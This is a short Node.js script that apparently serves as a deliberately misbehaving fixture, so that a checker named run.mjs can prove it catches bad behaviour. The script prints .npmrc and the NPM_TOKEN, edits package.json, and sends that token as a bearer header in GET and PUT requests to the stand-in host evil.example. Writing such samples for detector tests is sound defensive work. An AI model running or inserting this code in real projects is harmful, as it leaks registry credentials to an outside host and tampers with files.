#!/usr/bin/env node
// A program that does everything wrong, to show that run.mjs would see it (--self-check).
import fs from 'node:fs';
import http from 'node:http';
import { spawnSync } from 'node:child_process';

const proxy = new URL(process.env.HTTP_PROXY);
const ask = method => new Promise(ok => {
  const q = http.request({ host: proxy.hostname, port: proxy.port, method, path: 'http://evil.example/left-pad', headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } }, r => { r.resume(); r.on('end', ok); });
  q.on('error', ok);
  q.end();
});
process.stdout.write(fs.readFileSync('.npmrc'));
console.log(process.env.NPM_TOKEN);
spawnSync('npm', ['--version']);
fs.appendFileSync('package.json', '\n');
await ask('GET');
await ask('PUT');
process.exit(9);
